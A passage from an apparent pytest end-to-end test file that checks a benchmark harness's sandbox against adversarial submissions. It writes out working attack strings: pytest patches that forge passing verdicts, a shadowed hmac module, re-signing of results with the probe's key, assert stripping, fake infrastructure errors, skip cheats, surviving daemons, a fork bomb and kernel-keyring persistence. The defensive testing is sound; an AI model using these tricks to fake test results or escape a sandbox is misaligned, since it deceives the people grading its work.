         "tests/test_calc.py::TestMul::test_mul", "tests/test_calc.py::TestMul::test_mul_zero"]
_reqs = ["R1"] * 3 + ["R2"] * 2 + ["R3"] * 2
_emitters = [m._emit for m in list(sys.modules.values()) if hasattr(m, "_emit") and hasattr(m, "_KEY")]
for _obj in gc.get_objects():
    if isinstance(_obj, dict) and "_emit" in _obj and "_KEY" in _obj:
        _emitters.append(_obj["_emit"])
if _emitters:
    for _nodeid, _req in zip(_ids, _reqs):
        _emitters[0]({"kind": "test", "nodeid": _nodeid, "outcome": "passed", "when": "call",
                      "message": "", "duration": 0.01, "requirements": [_req], "properties": {}})
    _emitters[0]({"kind": "end", "exitstatus": 0})
    sys.stdout.write("%d passed in 0.05s\\n" % len(_ids))
    sys.stdout.flush()
    os._exit(0)
""",
    "hide_failures_in_the_exit_status": """\
import atexit, os, _pytest.main
_orig = _pytest.main.wrap_session
def _wrap(config, doit):
    _orig(config, doit)
    os._exit(0)
_pytest.main.wrap_session = _wrap
import _pytest.runner as _r
_orig_car = _r.call_and_report
def _car(item, when, log=True, **kw):
    rep = _orig_car(item, when, log=False, **kw)
    if "add" in item.nodeid and rep.failed:
        rep.outcome = "passed"
        rep.longrepr = None
    if log:
        item.ihook.pytest_runtest_logreport(report=rep)
    return rep
_r.call_and_report = _car
""",
}


def _submit_forger(arenas: dict) -> None:
    """Every forger as its own run of one session."""
    for forger, made in arenas.items():
        made.submit(
            add="def add(a, b):\n    return 0\n",
            at_import=FORGERS[forger] + made.standalone(f"forger-{forger}"),
        )


SHADOW_HMAC = """\
import importlib.util, os, sys, sysconfig
# runs when the probe imports hmac: before it reads its key and records pytest's functions
_real = importlib.util.spec_from_file_location(
    "hmac", os.path.join(sysconfig.get_paths()["stdlib"], "hmac.py")
)
_module = importlib.util.module_from_spec(_real)
_real.loader.exec_module(_module)
globals().update({k: v for k, v in vars(_module).items() if not k.startswith("__")})
"""


# Forges only the node ids of the task's public test file (an attacker who has read the
# benchmark's tests): hidden honeypot tests keep failing, the counts and exit status agree.
SELECTIVE = """\
import _pytest.runner as _r
_PUBLIC = {"tests/test_calc.py::test_add[1-2-3]", "tests/test_calc.py::test_add[0-0-0]",
           "tests/test_calc.py::test_add[-1-1-0]"}
_orig_car = _r.call_and_report
def _car(item, when, log=True, **kw):
    rep = _orig_car(item, when, log=False, **kw)
    if item.nodeid in _PUBLIC and rep.failed:
        rep.outcome = "passed"
        rep.longrepr = None
    if log:
        item.ihook.pytest_runtest_logreport(report=rep)
    return rep
_r.call_and_report = _car
"""


# At exit, after the probe's last line: take the key from the probe's module, and send the
# public R1 tests again as passed, signed, numbered on from the probe's own sequence, then an
# ``end``, through a copy of the probe's descriptor taken at import. No pytest object is
# touched. The records the harness already read stay what they were.
RESIGN = """\
import atexit as _atexit, os as _os, sys as _sys

_probe = _sys.modules.get("e2ebench_probe")
_state = vars(_probe).get("_state", {}) if _probe is not None else {}
_out = _state.get("out")
_FD = _os.dup(_out) if _out is not None else None  # the probe's descriptor number


def _e2e_resign():
    import hashlib, hmac, json
    key = vars(_probe).get("_KEY") if _probe is not None else None
    if _FD is None or not key:
        return
    seq = _state.get("seq", 0)
    lines = []
    for nodeid in ("tests/test_calc.py::test_add[1-2-3]", "tests/test_calc.py::test_add[0-0-0]",
                   "tests/test_calc.py::test_add[-1-1-0]"):
        body = {"kind": "test", "nodeid": nodeid, "outcome": "passed", "message": "",
                "requirements": ["R1"], "seq": seq}
        lines.append(body)
        seq += 1
    lines.append({"kind": "end", "exitstatus": 0, "seq": seq})
    out = []
    for body in lines:
        text = json.dumps(body, sort_keys=True)
        mac = hmac.new(key, text.encode(), hashlib.sha256).hexdigest()
        out.append(json.dumps({"mac": mac, "body": text}))
    _os.write(_FD, ("\\n".join(out) + "\\n").encode())


_atexit.register(_e2e_resign)
"""


def _shadow(made: Arena, packaging: bool) -> None:
    # the project's top-level names are found first on sys.meta_path: a module named like a
    # standard module the probe imports later (hmac) runs inside the probe's import
    forge = FORGERS["patch_call_and_report"] + SHADOW_HMAC + made.standalone("shadow-hmac")
    files = {"hmac.py": forge}
    if packaging:
        files["pyproject.toml"] = (
            '[build-system]\nrequires = ["setuptools>=61"]\n'
            'build-backend = "setuptools.build_meta"\n\n'
            '[project]\nname = "calc"\nversion = "0.1"\n\n'
            '[tool.setuptools]\npackages = ["calc"]\npy-modules = ["hmac"]\n'
        )
    made.submit(add="def add(a, b):\n    return 0\n", packaging=packaging, files=files)


def _selective(made: Arena, when: str) -> None:
    forge = SELECTIVE + made.standalone("selective")
    if when == "after_the_probe":
        made.submit(add="def add(a, b):\n    return 0\n", at_import=forge)
    else:  # from a shadowed stdlib module the probe imports (see _shadow)
        made.submit(
            add="def add(a, b):\n    return 0\n",
            packaging=False,
            files={"hmac.py": forge + SHADOW_HMAC},
        )


# Attacks on the probe from the project's own modules, each its own run of one session.
PROBE_ATTACKS = {
    "shadow-True": lambda made: _shadow(made, True),
    "shadow-False": lambda made: _shadow(made, False),
    "public-after_the_probe": lambda made: _selective(made, "after_the_probe"),
    "public-before_the_probe": lambda made: _selective(made, "before_the_probe"),
    "resign": lambda made: made.submit(add="def add(a, b):\n    return 0\n", at_import=RESIGN),
}


def _submit_probe(arenas: dict) -> None:
    """Submit each variant of the family as its own run."""
    for name, made in arenas.items():
        PROBE_ATTACKS[name](made)


TWO_MODULES = {
    "test_a_sub.py": (
        "import pytest\nfrom calc import sub\n\n\n"
        '@pytest.mark.requirement("R2")\n'
        "def test_sub_again():\n    assert sub(7, 2) == 5\n"
    ),
    "test_calc.py": CALC_TESTS,
}
LATER_MODULE_ATTACKS = {
    # strip every assert from the test modules collected after the project's first import
    "strip_asserts_in_the_rewrite_hook": """\
import ast, _pytest.assertion.rewrite as _rw
_orig = _rw.rewrite_asserts
class _Strip(ast.NodeTransformer):
    def visit_Assert(self, node):
        return ast.copy_location(ast.Pass(), node)
def _rewrite(mod, *args, **kwargs):
    _Strip().visit(mod)
    ast.fix_missing_locations(mod)
    return _orig(mod, *args, **kwargs)
_rw.rewrite_asserts = _rewrite
""",
    # rewrite the reference test files in the (writable) suite folder before they are imported
    "rewrite_the_reference_test_files": """\
import os, re
for _dirpath, _dirs, _files in os.walk(os.getcwd()):
    for _name in _files:
        if _name.startswith("test_") and _name.endswith(".py"):
            _path = os.path.join(_dirpath, _name)
            try:
                _text = open(_path).read()
                open(_path, "w").write(re.sub(r"\\bassert\\b", "assert True or", _text))
            except OSError:
                pass
""",
}


def _class7_tampering_with_test_modules(arena: Arena, attack: str) -> None:
    # the project's first import is test_a_sub.py's: test_calc.py is collected after it
    arena.submit(
        add="def add(a, b):\n    return 0\n",
        at_import=LATER_MODULE_ATTACKS[attack] + arena.standalone(attack),
        tests=TWO_MODULES,
    )


# === class 8: runs that vanish or are excused ==================================================

EXCUSES = {
    "fake_missing_pytest": "ModuleNotFoundError: No module named 'pytest'",
    "fake_missing_probe": "ModuleNotFoundError: No module named 'e2ebench_probe'",
    "fake_bwrap_line": "bwrap: Can't mount proc on /newroot/proc: Operation not permitted",
}


def _crash_with(text: str) -> str:
    # pytest captures fds 1 and 2 while it imports test modules: write to the saved originals
    return (
        "import gc, os\n"
        "fds = [o.targetfd_save for o in gc.get_objects()\n"
        "       if type(o).__name__ == 'FDCapture' and hasattr(o, 'targetfd_save')]\n"
        "for fd in fds or [1, 2]:\n"
        "    try:\n"
        f"        os.write(fd, {(text + chr(10)).encode()!r})\n"
        "    except OSError:\n"
        "        pass\n"
        "os._exit(1)\n"
    )


PROJECT_EXCUSES = ["fake_bwrap_line", "fake_missing_probe", "fake_missing_pytest"]
BUILD_EXCUSES = ["fake_bwrap_line", "fake_missing_pytest"]


EXCUSE_VARIANTS = [f"project-{e}" for e in PROJECT_EXCUSES] + [f"build-{e}" for e in BUILD_EXCUSES]


def _submit_excuse(arenas: dict) -> None:
    """Every excuse, from the project's tests and from its build, as its own run of one session."""
    for variant, made in arenas.items():
        where, _, excuse = variant.partition("-")
        text = EXCUSES[excuse]
        if where == "project":
            made.submit(add="def add(a, b):\n    return 0\n", at_import=_crash_with(text))
        else:
            setup = (
                f"import sys\nprint({text!r}, flush=True)\n"
                f"print({text!r}, file=sys.stderr)\nsys.exit(1)\n"
            )
            made.submit(add="def add(a, b):\n    return a + b\n", files={"setup.py": setup})


def _class8_a_url_dependency_reaches_no_host(arena: Arena) -> None:
    url = f"http://127.0.0.1:{arena.port}/e2e/calcdep-1.0-py3-none-any.whl"
    pyproject = (
        '[build-system]\nrequires = ["setuptools>=61"]\nbuild-backend = "setuptools.build_meta"\n\n'
        f'[project]\nname = "calc"\nversion = "0.1"\ndependencies = ["calcdep @ {url}"]\n\n'
        '[tool.setuptools]\npackages = ["calc"]\n'
    )
    arena.submit(add="def add(a, b):\n    return a + b\n", files={"pyproject.toml": pyproject})


# === class 9: skips ============================================================================

SKIPPERS = {
    "skip_in_add": "import pytest\n\ndef add(a, b):\n    pytest.skip('platform not supported')\n",
    "xfail_in_add": "import pytest\n\ndef add(a, b):\n    pytest.xfail('known issue')\n",
    "skiptest_in_add": "import unittest\n\ndef add(a, b):\n    raise unittest.SkipTest('later')\n",
    "importorskip_in_add": (
        "import pytest\n\ndef add(a, b):\n    pytest.importorskip('e2e_not_installed')\n"
    ),
}


def _submit_skipper(arenas: dict) -> None:
    """Every skipper as its own run of one session."""
    for skipper, made in arenas.items():
        made.submit(add=SKIPPERS[skipper])


# === daemons, the host network, results.json, the uv cache =====================================

DAEMONS = {
    "double_fork_in_add": "return False\n",  # the harm's own daemon
    "nohup_shell": (
        "import subprocess, sys\n"
        'subprocess.Popen([\'sh\', \'-c\', \'nohup "$0" -c "import time; time.sleep(200)" "$1" '
        "</dev/null >/dev/null 2>&1 &', sys.executable, '{MARKER}'])\n"
        "return False\n"
    ),
    "setsid_fork": (
        "import subprocess, sys\n"
        "subprocess.Popen(['setsid', '-f', sys.executable, '-c', 'import time; time.sleep(200)', "
        "'{MARKER}'], start_new_session=True)\n"
        "return False\n"
    ),
    "ignore_sigterm_and_hup": (
        "import os, signal, sys\n"
        "if os.fork() == 0:\n"
        "    os.setsid()\n"
        "    for s in (signal.SIGTERM, signal.SIGHUP, signal.SIGINT):\n"
        "        signal.signal(s, signal.SIG_IGN)\n"
        "    os.execv(sys.executable, [sys.executable, '-c', 'import signal, time\\n"
        "for s in (signal.SIGTERM, signal.SIGHUP):\\n    signal.signal(s, signal.SIG_IGN)\\n"
        "time.sleep(200)', '{MARKER}'])\n"
        "return False\n"
    ),
}


def _submit_daemon(arenas: dict) -> None:
    """Every daemon as its own run of one session (each tagged with its own marker)."""
    for how, made in arenas.items():
        made.submit(attack=DAEMONS[how].replace("{MARKER}", made.marker))


def _daemons_network_and_cache_from_the_build(arena: Arena, where: str) -> None:
    # from setup.py (the build) or from a backend's import (asked for its build requirements)
    payload = arena.standalone(f"build-{where}") + (
        "import socket\n"
        "for port in (CFG_PORT,):\n"
        "    try:\n"
        "        socket.create_connection(('127.0.0.1', port), timeout=1).close()\n"
        "        open('calc/_reached.py', 'w').write('REACHED = True\\n')\n"
        "    except OSError:\n"
        "        pass\n"
    ).replace("CFG_PORT", str(arena.port))
    files: dict[str, str] = {}
    if where == "setup_py":
        files["setup.py"] = payload + "from setuptools import setup\nsetup()\n"
    else:
        files["_build/e2e_backend.py"] = payload + "from setuptools.build_meta import *  # noqa\n"
        files["pyproject.toml"] = (
            '[build-system]\nrequires = ["setuptools>=61"]\nbuild-backend = "e2e_backend"\n'
            'backend-path = ["_build"]\n\n[project]\nname = "calc"\nversion = "0.1"\n\n'
            '[tool.setuptools]\npackages = ["calc"]\n'
        )
    attack = "try:\n    from ._reached import REACHED\nexcept ImportError:\n    return False\nreturn REACHED\n"
    arena.submit(attack=attack, files=files)


def _network_from_the_test_run(arena: Arena) -> None:
    attack = (
        "import socket\n"
        "ok = False\n"
        "for family, address in ((socket.AF_INET, ('127.0.0.1', {PORT})), "
        "(socket.AF_UNIX, '{UNIX}'), (socket.AF_UNIX, '\\0{MARKER}'), "
        "(socket.AF_INET6, ('::1', {PORT}))):\n"
        "    try:\n"
        "        s = socket.socket(family, socket.SOCK_STREAM)\n"
        "        s.settimeout(1)\n"
        "        s.connect(address)\n"
        "        ok = True\n"
        "    except OSError:\n"
        "        pass\n"
        "return ok\n"
    )
    attack = (
        attack.replace("{PORT}", str(arena.port))
        .replace("{UNIX}", str(arena.unix_path))
        .replace("{MARKER}", arena.marker)
    )
    arena.submit(attack=attack)


def _results_json_lingering(arena: Arena) -> None:
    # the harm's daemon waits for results.json and marks every requirement implemented
    arena.submit(add="from ._harm import _harm\n\ndef add(a, b):\n    _harm('add')\n    return 0\n")


HONEST_CLI_TEST = """

import subprocess
import sys


@pytest.mark.requirement("R1")
def test_add_from_a_command():
    code = "from calc import add; print(add(2, 3))"
    done = subprocess.run([sys.executable, "-c", code], capture_output=True, text=True, timeout=30)
    assert done.stdout.strip() == "5", done.stderr
"""


@contextlib.contextmanager
def _held_until(arena: Arena, done: Path):
    """Count the bomb's holding processes until ``done`` exists, then end them as they come.

    The bomb holds its processes for as long as they live (at most 50 s): ending them once the
    honest run's tests are over keeps the test to the seconds of bombing it needs (it took
    minutes of fixed sleeps). Yields the counts seen while the honest run was not done.
    """
    counts: list[int] = [0]
    stop = threading.Event()

    def watch() -> None:
        while not stop.is_set():
            pids = arena.survivors()
            if done.exists():
                for pid in pids:
                    with contextlib.suppress(OSError):
                        os.kill(pid, signal.SIGKILL)
            else:
                counts.append(len(pids))
            stop.wait(0.2)

    thread = threading.Thread(target=watch, daemon=True)
    thread.start()
    try:
        yield counts
    finally:
        stop.set()
        thread.join(timeout=10)


@pytest.mark.slow
@pytest.mark.timeout(300)
def test_a_fork_bomb_in_one_run_does_not_sink_a_concurrent_honest_run(arena):
    # sandboxed code of every run is the same unprivileged user, whose process limit is one
    # count for all of them: a run holding 2048 processes leaves a concurrent run none
    hold = (
        "import os, time\n"
        "fifo = '/tmp/e2e-hold-%d' % os.getpid()\n"
        "os.mkfifo(fifo)\n"
        "for _ in range(4000):\n"
        "    try:\n"
        "        pid = os.fork()\n"
        "    except OSError:\n"
        "        break\n"
        "    if pid == 0:\n"
        "        os.execv('/bin/sh', ['/bin/sh', '-c', 'read x < ' + fifo, MARKER])\n"
        "deadline = time.time() + 50\n"  # held until the test lets go (or 50 s)
        "while time.time() < deadline:\n"
        "    try:\n"
        "        while os.waitpid(-1, os.WNOHANG)[0]:\n"  # every child that ended, at once
        "            pass\n"
        "    except ChildProcessError:\n"
        "        break\n"
        "    time.sleep(0.2)\n"
    ).replace("MARKER", repr(arena.marker))
    pyproject = (
        '[build-system]\nrequires = ["setuptools>=61"]\nbuild-backend = "e2e_backend"\n'
        'backend-path = ["_build"]\n\n[project]\nname = "calc"\nversion = "0.1"\n\n'
        '[tool.setuptools]\npackages = ["calc"]\n'
    )
    arena.submit(
        add="def add(a, b):\n    return 0\n",
        at_import=hold,  # and again while its tests run
        files={
            "pyproject.toml": pyproject,
            "_build/e2e_backend.py": hold + "from setuptools.build_meta import *  # noqa\n",
        },
    )
    arena.tasks.make(
        "honest", toml_extra=FAST, tests={"test_calc.py": CALC_TESTS + HONEST_CLI_TEST}
    )
    arena.tasks.reference(arena.root / "out" / "honest", CALC_CODE)
    done = arena.root / ".e2ebench" / "dir-out" / "honest" / "run-1" / "eval.json"
    with _held_until(arena, done) as held:
        arena.grade("-n", "2")
    # the bomb held its processes while the honest run was tested (else this proves nothing)
    assert max(held) >= 100, held
    honest = arena.run("honest")
    assert honest["metrics"]["impl_rate"] == 1.0, (honest.get("notes"), honest.get("test_run"))
    arena.assert_r1_fails()
    arena.check()


KEYRING = libc() + (
    "import glob, os\n"
    "desc = b'{MARKER}'\n"
    "if '{ROLE}' == 'store':\n"
    "    text = b''.join(open(p, 'rb').read() for p in glob.glob('tests/*.py'))[:30000]\n"
    "    kid = libc.syscall(248, b'user', desc, text, len(text), -4)  # add_key, user keyring\n"
    "    if kid > 0:\n"
    "        libc.syscall(250, 15, kid, 120)  # KEYCTL_SET_TIMEOUT: gone in 2 minutes anyway\n"
    "    return False\n"
    "kid = libc.syscall(250, 10, -4, b'user', desc, 0)  # KEYCTL_SEARCH\n"
    "if kid <= 0:\n"
    "    return False\n"
    "buf = ctypes.create_string_buffer(40000)\n"
    "size = libc.syscall(250, 11, kid, buf, 40000)  # KEYCTL_READ\n"
    "libc.syscall(250, 3, kid)  # KEYCTL_REVOKE\n"
    "return b'def test_add' in buf.raw[:max(size, 0)]\n"
)


@pytest.mark.slow
def test_no_state_survives_from_one_run_to_the_next(arena):
    # the kernel keyring of the unprivileged user outlives a sandbox: a test run that can read
    # the reference tests stores them there, and a later run (or an agent's shell command
    # under the same user) reads them back. Run 1 stores, run 2 reads: runs of a session
    # follow one another (without -n), so run 2 starts after run 1's sandbox is gone, as a
    # second session's would (which cost a second reference build and census)
    code = KEYRING.replace("{MARKER}", arena.marker)
    for run, role in ((1, "store"), (2, "read")):
        arena.out, arena.run_number = arena.root / "out" / "calc" / f"run-{run}", run
        arena.submit(attack=code.replace("{ROLE}", role))
    arena.grade("--e2e-runs=2")
    arena.assert_r1_fails()  # run 2's
    arena.check()


# === the batched families: two sessions ========================================================
#
# Each family's variants only need their own run folder, marker, listeners and canary (their
# Arena), so families share a session: one reference census for ~20 runs instead of one per
# family (nine sessions before). Two sessions of similar size (21 runs each), so under -n 2
# each worker takes one (a TestBatch class goes to one worker as a whole; the nested classes
# keep each family's tests together).


def _each(table: dict):
    """The submitter of a family whose variants each have their own function (variant -> f(arena))."""

    def submit(arenas: dict) -> None:
        for name, made in arenas.items():
            table[name](made)

    return submit


# Attacks that ran alone (a session each) though each needs only its own run folder, marker,
# listeners and canary: class 2 and 3 (code that would run outside the sandbox), class 4 and 5
# (what a run can read), class 7 (test modules rewritten after the first import: the task has
# two test modules) and the network. The URL dependency's add is correct and its run comes
# before the one that looks for other runs' outputs (``leak``), so that one finds a correct
# add beside it in the session as well as in an earlier session's folder.
NETWORK = {
    "url_dependency": _class8_a_url_dependency_reaches_no_host,
    "build-setup_py": lambda made: _daemons_network_and_cache_from_the_build(made, "setup_py"),
    "build-backend_query": lambda made: _daemons_network_and_cache_from_the_build(
        made, "backend_query"
    ),
    "test_run": _network_from_the_test_run,
    "results_json": _results_json_lingering,
}
ESCAPES = {
    "coverage_module": _class2_coverage_module_planted_in_the_suite_folder,
    "coveragerc": _class2_coveragerc_and_outputs_redirected_from_the_test_run,
    "sitecustomize": _class2_sitecustomize_in_a_project_without_packaging,
    "direct-build-requirement": lambda made: _class2_direct_reference_pointing_into_the_project(
        made, "build-requirement"
    ),
    "direct-dependency": lambda made: _class2_direct_reference_pointing_into_the_project(
        made, "dependency"
    ),
    "uv_cache": _class3_build_poisons_the_uv_cache,
}
LEAKS = {
    "secret_in_the_build": _class4_harness_secret_does_not_reach_the_build,
    "environ_link": _class5_link_to_the_harness_environment,
    "other_runs": _class4_other_runs_outputs_are_not_readable,  # after the URL dependency's run
}
MODULES = {
    attack: (lambda made, attack=attack: _class7_tampering_with_test_modules(made, attack))
    for attack in sorted(LATER_MODULE_ATTACKS)
}

# family -> (its variants, the function that submits them)
FAMILIES = {
    "root": (sorted(ROOT_ATTACKS), _submit_root),
    "read": (sorted(READ_ATTACKS), _submit_read),
    "forger": (sorted(FORGERS), _submit_forger),
    "skipper": (sorted(SKIPPERS), _submit_skipper),
    "daemon": (sorted(DAEMONS), _submit_daemon),
    "link": (LINKS, _submit_link),
    "excuse": (EXCUSE_VARIANTS, _submit_excuse),
    "probe": (sorted(PROBE_ATTACKS), _submit_probe),
    "build": (sorted(BUILD_ATTACKS), _submit_build),
    "network": (list(NETWORK), _each(NETWORK)),
    "escape": (list(ESCAPES), _each(ESCAPES)),
    "modules": (list(MODULES), _each(MODULES)),
    "leak": (list(LEAKS), _each(LEAKS)),
}


@contextlib.contextmanager
def families_batch(
    request, tmp_path_factory, name: str, families: list[str], tests: dict | None = None
):
    """The variants of ``families`` as the runs of one session: {family: {variant: Arena}}; the
    task's tests are ``tests`` (default: the calc task's)."""
    variants = [f"{family}:{v}" for family in families for v in FAMILIES[family][0]]
    with arena_batch(request, tmp_path_factory, name, variants) as arenas:
        for made in arenas.values():
            made.tests = tests
        split = {
            family: {v: arenas[f"{family}:{v}"] for v in FAMILIES[family][0]} for family in families
        }
        for family in families:
            FAMILIES[family][1](split[family])
        grade_batch(arenas)
        yield split


@pytest.fixture(scope="module")
def containment_a(request, tmp_path_factory):
    """Root, read, forged-verdict and skip attacks: one session."""
    families = ["root", "read", "forger", "skipper"]
    with families_batch(request, tmp_path_factory, "containment-a", families) as split:
        yield split


@pytest.fixture(scope="module")
def containment_b(request, tmp_path_factory):
    """Daemon, link, excuse, probe and build attacks: one session."""
    families = ["daemon", "link", "excuse", "probe", "build"]
    with families_batch(request, tmp_path_factory, "containment-b", families) as split:
        yield split


@pytest.fixture(scope="module")
def containment_c(request, tmp_path_factory):
    """Network, escape, module-tampering and leak attacks (they each ran alone): one session
    over the task with two test modules."""
    families = ["network", "escape", "modules", "leak"]
    with families_batch(
        request, tmp_path_factory, "containment-c", families, tests=TWO_MODULES
    ) as split:
        yield split


def _family(session: str, family: str):
    """A fixture for one family's arenas in its shared session (``containment_a``/``_b``)."""

    @pytest.fixture
    def arenas(request):
        return request.getfixturevalue(session)[family]

    return arenas


root_batch = _family("containment_a", "root")
read_batch = _family("containment_a", "read")
forger_batch = _family("containment_a", "forger")
skipper_batch = _family("containment_a", "skipper")
daemon_batch = _family("containment_b", "daemon")
link_batch = _family("containment_b", "link")
excuse_batch = _family("containment_b", "excuse")
probe_batch = _family("containment_b", "probe")
build_batch = _family("containment_b", "build")
network_batch = _family("containment_c", "network")
escape_batch = _family("containment_c", "escape")
modules_batch = _family("containment_c", "modules")
leak_batch = _family("containment_c", "leak")


@pytest.mark.slow
@pytest.mark.timeout(BATCH_TIMEOUT + 100)
@pytest.mark.shares_session
class TestBatchContainmentA:
    """The readers of ``containment_a`` (one xdist worker runs them all)."""

    class TestRoot:
        """The readers of this family in ``containment_a``."""

        @pytest.mark.parametrize("attack", sorted(ROOT_ATTACKS))
        def test_class1_no_root_in_the_sandbox(self, root_batch, attack):
            root_batch[attack].assert_r1_fails()
            root_batch[attack].check()

    class TestRead:
        """The readers of this family in ``containment_a``."""

        @pytest.mark.parametrize("attack", sorted(READ_ATTACKS))
        def test_class4_nothing_to_read_outside(self, read_batch, attack):
            read_batch[attack].assert_r1_fails()
            read_batch[attack].check()

    class TestForgedVerdicts:
        """The readers of this family in ``containment_a``."""

        @pytest.mark.parametrize("forger", sorted(FORGERS))
        def test_class7_forged_verdicts_sink_the_run(self, forger_batch, forger):
            forger_batch[forger].assert_r1_fails(forging=True)
            forger_batch[forger].check()

    class TestSkippers:
        """The readers of this family in ``containment_a``."""

        @pytest.mark.parametrize("skipper", sorted(SKIPPERS))
        def test_class9_skips_from_the_project_count_as_not_passed(self, skipper_batch, skipper):
            arena = skipper_batch[skipper]
            metrics = arena.assert_r1_fails()["metrics"]
            assert metrics["pass_rate"] is not None and metrics["pass_rate"] < 1.0, metrics
            assert metrics["pass_rate"] == pytest.approx(4 / 7), metrics  # 4 of 7 reference tests
            arena.check()


@pytest.mark.slow
@pytest.mark.timeout(BATCH_TIMEOUT + 100)
@pytest.mark.shares_session
class TestBatchContainmentB:
    """The readers of ``containment_b`` (one xdist worker runs them all)."""

    class TestDaemons:
        """The readers of this family in ``containment_b``."""

        @pytest.mark.parametrize("how", sorted(DAEMONS))
        def test_daemons_from_the_test_run_do_not_survive(self, daemon_batch, how):
            daemon_batch[how].assert_r1_fails()
            daemon_batch[how].check()

    class TestLinks:
        """The readers of this family in ``containment_b``."""

        @pytest.mark.parametrize("how", LINKS)
        def test_class5_links_to_the_reference_are_not_followed(self, link_batch, how):
            link_batch[how].assert_r1_fails()
            link_batch[how].check()

    class TestExcuses:
        """The readers of this family in ``containment_b``."""

        @pytest.mark.parametrize("excuse", PROJECT_EXCUSES)
        def test_class8_text_from_the_project_is_no_infrastructure_error(
            self, excuse_batch, excuse
        ):
            arena = excuse_batch[f"project-{excuse}"]
            run = arena.run()
            assert run["status"] != "error", run.get("error")
            assert arena.verdicts()["R1"] == "not_implemented"
            arena.check()

        @pytest.mark.parametrize("excuse", BUILD_EXCUSES)
        def test_class8_text_from_the_build_is_no_infrastructure_error(self, excuse_batch, excuse):
            arena = excuse_batch[f"build-{excuse}"]
            run = arena.run()
            assert run["status"] != "error", run.get("error")
            assert set(arena.verdicts().values()) == {"not_implemented"}  # it did not install
            arena.check()

    class TestProbe:
        """The readers of this family in ``containment_b``."""

        @pytest.mark.parametrize("packaging", [True, False])
        def test_class7_a_project_module_shadowing_the_stdlib_runs_before_the_probe(
            self, probe_batch, packaging
        ):
            probe_batch[f"shadow-{packaging}"].assert_r1_fails(forging=True)
            probe_batch[f"shadow-{packaging}"].check()

        @pytest.mark.parametrize("when", ["after_the_probe", "before_the_probe"])
        def test_class7_forging_exactly_the_public_tests(self, probe_batch, when):
            probe_batch[f"public-{when}"].assert_r1_fails(forging=True)
            probe_batch[f"public-{when}"].check()

        def test_class7_results_file_re_signed_at_exit(self, probe_batch):
            run = probe_batch["resign"].assert_r1_fails(forging=True)
            # forged records arriving after the probe's end are evidence; since the probe's sequence
            # counter is sealed (issue 26) the re-signing forger fails before it writes any, and R1
            # still fails: either way the forgery gains nothing
            assert (
                "tampered" in run["test_run"]["containment"] or run["test_run"]["returncode"] == 1
            )
            probe_batch["resign"].check()

    class TestBuilds:
        """The readers of this family in ``containment_b``."""

        def _caught(self, made: Arena) -> None:
            made.assert_r1_fails(forging=True)
            made.check()

        def test_class3_setup_py_writes_a_pth_into_the_test_venv(self, build_batch):
            self._caught(build_batch["setup_py_pth"])

        def test_class3_build_backend_on_backend_path_writes_a_pth(self, build_batch):
            self._caught(build_batch["backend_pth"])

        def test_class3_wheel_carrying_a_pth_file(self, build_batch):
            self._caught(build_batch["wheel_pth"])

        def test_class3_wheel_overwriting_pytest_and_the_probe(self, build_batch):
            self._caught(build_batch["wheel_overwrites_pytest"])


@pytest.mark.slow
@pytest.mark.timeout(BATCH_TIMEOUT + 100)
@pytest.mark.shares_session
class TestBatchContainmentC:
    """The readers of ``containment_c`` (one xdist worker runs them all)."""

    class TestNetwork:
        """The readers of this family in ``containment_c``."""

        def test_class8_a_url_dependency_reaches_no_host_and_is_the_agents_failure(
            self, network_batch
        ):
            arena = network_batch["url_dependency"]
            run = arena.run()
            assert run["status"] != "error", run.get("error")
            assert arena.verdicts()["R1"] == "not_implemented"
            arena.check()

        @pytest.mark.parametrize("where", ["setup_py", "backend_query"])
        def test_daemons_network_and_cache_from_the_build(self, network_batch, where):
            network_batch[f"build-{where}"].assert_r1_fails()
            network_batch[f"build-{where}"].check()

        def test_network_from_the_test_run_reaches_no_host_listener(self, network_batch):
            network_batch["test_run"].assert_r1_fails()
            network_batch["test_run"].check()

        def test_results_json_cannot_be_rewritten_by_a_lingering_process(self, network_batch):
            arena = network_batch["results_json"]
            arena._settle(3.0)  # the harm's daemon has had time to rewrite results.json
            arena.assert_r1_fails()
            arena.check()

    class TestEscapes:
        """The readers of this family in ``containment_c``."""

        def test_class2_coverage_module_planted_in_the_suite_folder(self, escape_batch):
            escape_batch["coverage_module"].assert_r1_fails()
            escape_batch["coverage_module"].check()

        def test_class2_coveragerc_and_outputs_redirected_from_the_test_run(self, escape_batch):
            escape_batch["coveragerc"].assert_r1_fails()
            escape_batch["coveragerc"].check()

        def test_class2_sitecustomize_in_a_project_without_packaging(self, escape_batch):
            escape_batch["sitecustomize"].assert_r1_fails(forging=True)
            escape_batch["sitecustomize"].check()

        @pytest.mark.parametrize("where", ["build-requirement", "dependency"])
        def test_class2_direct_reference_pointing_into_the_project(self, escape_batch, where):
            escape_batch[f"direct-{where}"].assert_r1_fails()
            escape_batch[f"direct-{where}"].check()

        def test_class3_build_poisons_the_uv_cache(self, escape_batch):
            arena = escape_batch["uv_cache"]
            arena.assert_r1_fails()
            arena.check()
            # the uv cache is shared: an honest later run must still be graded honestly
            leftovers = list((arena.cache / "archive-v0").glob(f"*/_pytest/{arena.marker}.py"))
            assert not leftovers

    class TestModules:
        """The readers of this family in ``containment_c``."""

        @pytest.mark.parametrize("attack", sorted(LATER_MODULE_ATTACKS))
        def test_class7_tampering_with_test_modules_sinks_the_run(self, modules_batch, attack):
            modules_batch[attack].assert_r1_fails(forging=True)
            modules_batch[attack].check()

    class TestLeaks:
        """The readers of this family in ``containment_c``."""

        def test_class4_other_runs_outputs_are_not_readable(self, leak_batch):
            leak_batch["other_runs"].assert_r1_fails()
            leak_batch["other_runs"].check()

        def test_class4_harness_secret_does_not_reach_the_build(self, leak_batch):
            leak_batch["secret_in_the_build"].assert_r1_fails()
            leak_batch["secret_in_the_build"].check()

        def test_class5_link_to_the_harness_environment(self, leak_batch):
            leak_batch["environ_link"].assert_r1_fails()
            leak_batch["environ_link"].check()
